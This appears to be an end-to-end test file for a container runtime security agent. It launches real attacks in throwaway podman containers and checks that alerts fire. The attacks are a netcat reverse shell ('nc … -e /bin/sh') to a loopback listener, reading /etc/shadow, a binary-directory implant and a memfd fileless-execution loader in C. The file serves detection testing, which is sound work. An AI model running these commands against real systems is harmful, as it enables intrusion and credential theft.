// End-to-end: the agent runs in-process (startAgent) on the real kernel sensor with Falco's stable
// ruleset plus Palisade's default ruleset; real attacks run inside real podman containers (runc).

import { execFileSync, spawn, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import type { Alert } from '@palisade/core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { sharedDataPath } from '../../../../test-support/paths.js';
import { defaultRulesFile } from '../../src/rules-files.js';
import { defaultEnrichStage, respondStageFromPolicy } from '../../src/runtime-stages.js';
import { locateSensorBinary } from '../../src/sensor-binary.js';
import { type AgentHandle, startAgent } from '../../src/start-agent.js';
import { MemoryOutput, waitFor } from '../support.js';

vi.setConfig({ testTimeout: 90_000 });

const PODMAN_RUN = [
  'run',
  '--runtime',
  '/usr/sbin/runc',
  '--ulimit',
  'nofile=1024:1024',
  '--ulimit',
  'nproc=1024:1024',
];
const tag = `${process.pid}-${Date.now().toString(36)}`;
const image = `localhost/palisade-agent-e2e-${tag}:1`;
const victim = `palisade-agent-victim-${tag}`;
const hostNet = `palisade-agent-revshell-${tag}`;

// A memfd loader: copies a binary into an anonymous memory file and executes it from there.
const MEMFD_EXEC_C = `
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>
int main(int argc, char **argv) {
  if (argc < 2) return 64;
  int src = open(argv[1], O_RDONLY);
  int mem = memfd_create("payload", 0);
  if (src < 0 || mem < 0) return 65;
  char buf[65536];
  ssize_t n;
  while ((n = read(src, buf, sizeof buf)) > 0)
    if (write(mem, buf, (size_t)n) != n) return 66;
  char *args[] = {"true", 0};
  char *env[] = {0};
  fexecve(mem, args, env);
  return 127;
}
`;

let tmp: string;
let agent: AgentHandle;
const out = new MemoryOutput();
let victimId = '';

function podman(args: string[]): string {
  return execFileSync('podman', args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }).trim();
}

const named = new Set<string>();
const KILL_MARKER = '4242';

/** Runs harmless commands in the container until the enricher reports its name (lookups are asynchronous). */
async function warmUp(name: string): Promise<void> {
  await waitFor(
    () => {
      spawnSync('podman', ['exec', name, '/bin/true'], { stdio: 'ignore' });
      return named.has(name);
    },
    `the enricher to learn container ${name}`,
    60_000,
  );
}

function buildImage(): void {
  const root = path.join(tmp, 'rootfs');
  for (const d of ['bin', 'etc', 'usr/bin', 'tmp', 'proc', 'sys', 'dev'])
    fs.mkdirSync(path.join(root, d), { recursive: true });
  fs.copyFileSync('/bin/busybox', path.join(root, 'bin/busybox'));
  fs.chmodSync(path.join(root, 'bin/busybox'), 0o755);
  for (const applet of ['sh', 'cat', 'nc', 'sleep', 'true', 'cp', 'echo', 'chmod'])
    fs.symlinkSync('busybox', path.join(root, 'bin', applet));
  fs.writeFileSync(path.join(root, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/sh\n');
  fs.writeFileSync(path.join(root, 'etc/group'), 'root:x:0:\n');
  fs.writeFileSync(path.join(root, 'etc/shadow'), 'root:*:19000:0:99999:7:::\n', { mode: 0o600 });
  fs.writeFileSync(path.join(tmp, 'memfd-exec.c'), MEMFD_EXEC_C);
  execFileSync('cc', ['-static', '-O2', '-o', path.join(root, 'bin/memfd-exec'), path.join(tmp, 'memfd-exec.c')]);
  const tar = path.join(tmp, 'image.tar');
  execFileSync('tar', ['-C', root, '-cf', tar, '.']);
  podman(['import', tar, image]);
}

/** The first alert of `rule` raised for a process in the container with this full id. */
function alertFor(rule: string, containerId: string): Alert | undefined {
  return out.records
    .map((r) => r.alert)
    .find((a) => a.rule === rule && containerId.startsWith(String(a.output_fields['container.id'])));
}

/** Waits for every rule (Falco's and Palisade's) to fire for the container; checks name and image. */
async function expectAlerts(rules: string[], containerId: string, name: string): Promise<Alert[]> {
  const found: Alert[] = [];
  for (const rule of rules) {
    const a = await waitFor(() => alertFor(rule, containerId), `alert "${rule}" for container ${name}`, 20_000).catch(
      (err: Error) => {
        const seen = out.records.map((r) => `${r.alert.rule} [${r.alert.output_fields['container.id']}]`);
        throw new Error(`${err.message}; alerts so far: ${seen.join(', ') || 'none'}`);
      },
    );
    // The enricher fills container name and image from podman.
    expect(a.output_fields['container.name']).toBe(name);
    expect(a.output_fields['container.image']).toBe(image);
    found.push(a);
  }
  return found;
}

beforeAll(async () => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'palisade-agent-e2e-'));
  buildImage();
  const def = defaultRulesFile();
  if (!def) throw new Error('Palisade default ruleset (packages/runtime/rules/palisade_rules.yaml) not found');
  // One rule of the test's own, answered with a kill in enforce mode (the response policy below).
  const responseRules = path.join(tmp, 'response_rules.yaml');
  fs.writeFileSync(
    responseRules,
    `- rule: E2E response target
  desc: a sleep with the test's marker argument
  condition: evt.type = execve and proc.name = sleep and proc.args contains "${KILL_MARKER}"
  output: marked sleep (proc.pid=%proc.pid container.id=%container.id)
  priority: CRITICAL
  tags: [e2e]
`,
  );
  const policy = path.join(tmp, 'response_policy.yaml');
  fs.writeFileSync(
    policy,
    `apiVersion: palisade.dev/v1
kind: ResponsePolicy
spec:
  mode: enforce
  responses:
    - rules: [E2E response target]
      actions: [kill]
`,
  );
  const rules = [sharedDataPath('falco', 'falco_rules.yaml'), def, responseRules];
  agent = startAgent({
    rules,
    outputs: [out],
    ruleMatching: 'all',
    sensor: { binaryPath: locateSensorBinary() },
    enrich: defaultEnrichStage(),
    respond: respondStageFromPolicy(policy),
    // Records which containers the enricher has named, so the tests can wait for it to know theirs.
    detectors: [
      {
        observe: (ev) => {
          if (ev.container?.name) named.add(ev.container.name);
          return [];
        },
      },
    ],
    log: () => {},
  });
  await agent.ready;
  victimId = podman([...PODMAN_RUN, '-d', '--network', 'none', '--name', victim, image, '/bin/sleep', '600']);
  await warmUp(victim);
});

afterAll(async () => {
  await agent?.stop();
  spawnSync('podman', ['rm', '-f', '-t', '0', victim, hostNet], { stdio: 'ignore' });
  spawnSync('podman', ['rmi', '-f', image], { stdio: 'ignore' });
  fs.rmSync(tmp, { recursive: true, force: true });
});

describe('agent end-to-end: attacks in podman containers (root, BTF, podman)', () => {
  it('alerts on a terminal shell spawned in a container (root, BTF, podman)', async () => {
    // The outer shell has a terminal (Falco's rule); the inner one is not an entrypoint (Palisade's).
    // The trailing `; true` keeps ash from exec'ing the inner shell in place of the outer one.
    execFileSync('podman', ['exec', '-t', victim, '/bin/sh', '-c', '/bin/sh -c "echo hi"; true'], { stdio: 'ignore' });
    await expectAlerts(['Terminal shell in container', 'Shell spawned in container'], victimId, victim);
  });

  it('alerts on cat /etc/shadow in a container (root, BTF, podman)', async () => {
    execFileSync('podman', ['exec', victim, '/bin/cat', '/etc/shadow'], { stdio: 'ignore' });
    const alerts = await expectAlerts(['Read sensitive file untrusted', 'Sensitive file read'], victimId, victim);
    for (const a of alerts) expect(a.output_fields['fd.name']).toBe('/etc/shadow');
  });

  it('alerts on a write below /usr/bin in a container (root, BTF, podman)', async () => {
    execFileSync('podman', ['exec', victim, '/bin/sh', '-c', 'echo x > /usr/bin/implant'], { stdio: 'ignore' });
    const [a] = await expectAlerts(['Write below binary directory'], victimId, victim);
    expect(a!.output_fields['fd.name']).toBe('/usr/bin/implant');
  });

  it('alerts on a binary dropped into a container and run (drift) (root, BTF, podman)', async () => {
    execFileSync('podman', ['exec', victim, '/bin/sh', '-c', 'cp /bin/busybox /tmp/true && /tmp/true'], {
      stdio: 'ignore',
    });
    await expectAlerts(
      ['Drop and execute new binary in container', 'Executable not in image (drift)'],
      victimId,
      victim,
    );
  });

  it('alerts on fileless (memfd) execution in a container (root, BTF, podman)', async () => {
    // From a shell: Falco trusts memfd execs whose parent is runc (runc clones itself into a memfd).
    execFileSync('podman', ['exec', victim, '/bin/sh', '-c', '/bin/memfd-exec /bin/busybox; true'], {
      stdio: 'ignore',
    });
    await expectAlerts(['Fileless execution via memfd_create', 'Fileless execution'], victimId, victim);
  });

  it('alerts on a netcat reverse shell to a loopback listener (root, BTF, podman)', async () => {
    const got: string[] = [];
    const listener = net.createServer((s) => {
      s.on('data', (d) => got.push(d.toString()));
      s.end('echo pwned\nexit\n');
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const port = (listener.address() as net.AddressInfo).port;
    try {
      const id = podman([...PODMAN_RUN, '-d', '--network', 'host', '--name', hostNet, image, '/bin/sleep', '600']);
      await warmUp(hostNet);
      const nc = spawn('podman', ['exec', hostNet, '/bin/nc', '127.0.0.1', String(port), '-e', '/bin/sh'], {
        stdio: 'ignore',
      });
      await new Promise((resolve) => nc.on('exit', resolve));
      await expectAlerts(
        ['Netcat Remote Code Execution in Container', 'Netcat remote code execution in container'],
        id,
        hostNet,
      );
      expect(got.join('')).toContain('pwned');
    } finally {
      listener.close();
    }
  });

  it('kills the process when the response policy says so, and records the action (root, BTF, podman)', async () => {
    const sleeper = spawn('podman', ['exec', victim, '/bin/sleep', KILL_MARKER], { stdio: 'ignore' });
    const exit = new Promise<number | null>((resolve) => sleeper.on('exit', (code) => resolve(code)));
    const [a] = await expectAlerts(['E2E response target'], victimId, victim);
    expect(a!.actions).toEqual([expect.objectContaining({ action: 'kill', mode: 'enforce', result: 'done' })]);
    // The sleep would run for 70 minutes; it is gone, killed by SIGKILL (podman exec reports 137).
    expect(await exit).toBe(137);
  });

  it('counts the events it saw and keeps alerting through a rules reload (root, BTF, podman)', async () => {
    const before = agent.stats();
    expect(before.events).toBeGreaterThan(0);
    expect(agent.reload().applied).toBe(true);
    execFileSync('podman', ['exec', victim, '/bin/cat', '/etc/shadow'], { stdio: 'ignore' });
    await waitFor(
      () => out.records.filter((r) => r.alert.output_fields['fd.name'] === '/etc/shadow').length >= 2,
      'a second /etc/shadow alert after the reload',
    );
    expect(agent.stats().drops).toBe(0);
  });

  it('raises a sensor health alert when the sensor is killed, restarts it and keeps detecting (root, BTF, podman)', async () => {
    const pid = agent.stats().sensorPid;
    expect(pid).toBeGreaterThan(0);
    process.kill(pid!, 'SIGKILL');
    const health = await waitFor(
      () =>
        out.records.find(
          (r) =>
            r.alert.rule === 'Palisade sensor health' && r.alert.output_fields['palisade.sensor.status'] === 'died',
        ),
      'a sensor health alert',
    );
    expect(health.alert.priority).toBe('Error');
    await waitFor(() => agent.stats().sensorRestarts >= 1 && agent.stats().sensorPid !== pid, 'the sensor restart');
    await waitFor(
      () =>
        out.records.some(
          (r) =>
            r.alert.rule === 'Palisade sensor health' &&
            r.alert.output_fields['palisade.sensor.status'] === 'restarted',
        ),
      'the restarted health alert',
    );
    const before = out.records.length;
    // The restarted sensor attaches asynchronously: retry the attack until it is seen.
    await waitFor(() => {
      spawnSync('podman', ['exec', victim, '/bin/cat', '/etc/shadow'], { stdio: 'ignore' });
      return out.records.slice(before).some((r) => r.alert.output_fields['fd.name'] === '/etc/shadow');
    }, 'an alert from the restarted sensor');
  });
});
